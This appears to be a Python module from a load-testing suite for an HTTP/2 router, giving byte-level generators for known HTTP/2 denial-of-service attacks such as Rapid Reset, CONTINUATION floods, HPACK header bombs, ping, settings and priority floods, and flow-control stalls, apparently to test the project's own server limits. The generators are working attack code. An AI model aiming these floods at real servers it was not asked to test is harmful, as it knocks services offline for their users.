"""The known attacks on HTTP/2 servers, as bytes: what to say first, what to go on saying, and whether to listen.

Each is told to a live server by `loadtests.attacks`. What they are answered with, and which bound answers, is in
docs/reference/http2.md.
"""

import itertools
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

import hpack

from loadtests.soak_caller import Questions, header_fields
from router.http2 import frames

_EMPTY_NAME: Final = b"\x00\x00\x01x"  # a literal field without a name
_LONG: Final = b"\x03x-y\x7f\xa1\x1e" + b"v" * 4000  # the name, 4000 as HPACK writes it, the value
_THAT_AGAIN: Final = b"\xbe"  # the newest of the table, in one byte


class Speaker:
    """Makes frames; `block` is the header block of a good request that keeps nothing in the table."""

    def __init__(self, origin: int) -> None:
        self._questions = Questions(origin)
        self.block: bytes = hpack.Encoder().encode([(*pair, True) for pair in header_fields()])

    def opening(self, stream_id: int, flags: int = 0) -> bytes:
        return frames.header_frames(stream_id, self.block, flags, 2**14)

    def request(self, stream_id: int) -> bytes:
        message, _, _ = self._questions.next()
        message = message[:16_000]
        return self.opening(stream_id) + frames.head(frames.DATA, len(message), frames.END_STREAM, stream_id) + message


Saying = Iterator[bytes]


def _streams(count: int) -> Iterator[list[int]]:
    numbers = itertools.count(1, 2)
    while True:
        yield list(itertools.islice(numbers, count))


def rapid_reset(speaker: Speaker) -> Saying:
    """CVE-2023-44487: ask and take it back, hundreds at a time."""
    for streams in _streams(200):
        yield b"".join(speaker.request(stream) + frames.rst_stream(stream, 8) for stream in streams)


def made_you_reset(speaker: Speaker) -> Saying:
    """CVE-2025-8671: make the server reset what was asked, by a window update of nothing."""
    for streams in _streams(200):
        yield b"".join(speaker.opening(stream) + frames.window_update(stream, 0) for stream in streams)


def continuation(speaker: Speaker) -> Saying:
    """CVE-2024-27316: a header block without end."""
    yield frames.head(frames.HEADERS, len(speaker.block), 0, 1) + speaker.block
    field = b"\x00" + _LONG
    while True:
        yield (frames.head(frames.CONTINUATION, len(field), 0, 1) + field) * 4


def empty_continuation(speaker: Speaker) -> Saying:
    """The same with frames of nothing."""
    yield frames.head(frames.HEADERS, len(speaker.block), 0, 1) + speaker.block
    while True:
        yield frames.head(frames.CONTINUATION, 0, 0, 1) * 500


def header_bomb(speaker: Speaker) -> Saying:
    """CVE-2016-6581: one long field, then a block that repeats it ten thousand times in a byte each."""
    streams = itertools.count(1, 2)
    yield frames.header_frames(next(streams), speaker.block + b"\x40" + _LONG, frames.END_STREAM, 2**14)
    for stream in streams:
        yield frames.header_frames(stream, speaker.block + _THAT_AGAIN * 10_000, frames.END_STREAM, 2**14)


def empty_names(speaker: Speaker) -> Saying:
    """CVE-2019-9516: fields without a name."""
    for streams in _streams(200):
        yield b"".join(
            frames.header_frames(stream, speaker.block + _EMPTY_NAME * 20, frames.END_STREAM, 2**14)
            for stream in streams
        )


def ping(_: Speaker) -> Saying:
    """CVE-2019-9512."""
    return itertools.repeat(frames.ping(b"attack!!") * 1000)


def settings(_: Speaker) -> Saying:
    """CVE-2019-9515."""
    return itertools.repeat(frames.settings({}) * 1000)


def priority(_: Speaker) -> Saying:
    """CVE-2019-9513."""
    return itertools.repeat((frames.head(frames.PRIORITY, 5, 0, 1) + b"\0\0\0\x03\x10") * 1000)


def empty_data(speaker: Speaker) -> Saying:
    """CVE-2019-9518."""
    yield speaker.opening(1)
    while True:
        yield frames.head(frames.DATA, 0, 0, 1) * 1000


def unknown_frames(_: Speaker) -> Saying:
    """Types that must be ignored."""
    return itertools.repeat(frames.head(0x42, 0, 0, 0) * 1000)


def window_stall(speaker: Speaker) -> Saying:
    """CVE-2019-9511: many answers asked for, and no window for any of them."""
    yield frames.settings({frames.Setting.INITIAL_WINDOW_SIZE: 0})
    yield from (b"".join(map(speaker.request, streams)) for streams in itertools.islice(_streams(10), 10))
    yield from itertools.repeat(b"")


def read_nothing(speaker: Speaker) -> Saying:
    """CVE-2019-9517: the protocol's window wide open, the socket never read."""
    yield frames.settings({frames.Setting.INITIAL_WINDOW_SIZE: 2**31 - 1}) + frames.window_update(0, 2**30)
    for streams in _streams(20):
        yield b"".join(map(speaker.request, streams))


def write_slowly(speaker: Speaker) -> Saying:
    """A request byte by byte."""
    return (bytes((byte,)) for byte in itertools.chain.from_iterable(map(speaker.request, itertools.count(1, 2))))


def garbage(speaker: Speaker) -> Saying:
    """A request, then what is no frame."""
    yield speaker.request(1)
    yield from itertools.repeat(b"\xff" * 50_000)


@dataclass(frozen=True, slots=True)
class Attack:
    say: Callable[[Speaker], Saying]
    listens: bool = True
    connections: int = 2

    @property
    def name(self) -> str:
        return self.say.__name__.replace("_", " ")


ATTACKS: Final = (
    *map(Attack, (rapid_reset, made_you_reset, continuation, empty_continuation, header_bomb, empty_names)),
    *map(Attack, (ping, settings, priority, empty_data, unknown_frames, garbage)),
    Attack(window_stall, connections=4),
    Attack(read_nothing, listens=False, connections=4),
    Attack(write_slowly, connections=20),
)
